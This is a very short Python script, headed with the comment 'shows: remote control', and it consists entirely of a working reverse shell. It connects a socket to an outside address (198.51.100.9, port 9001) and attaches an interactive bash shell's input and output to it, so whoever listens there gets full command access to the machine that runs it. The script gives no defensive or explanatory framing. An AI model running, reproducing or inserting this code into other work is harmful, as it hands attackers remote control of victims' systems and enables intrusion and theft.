# shows: remote control
import socket
import subprocess as sp

k = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
k.connect(("198.51.100.9", 9001))
sp.Popen(["/bin/bash", "-i"], stdin=k.fileno(), stdout=k.fileno(), stderr=k.fileno())
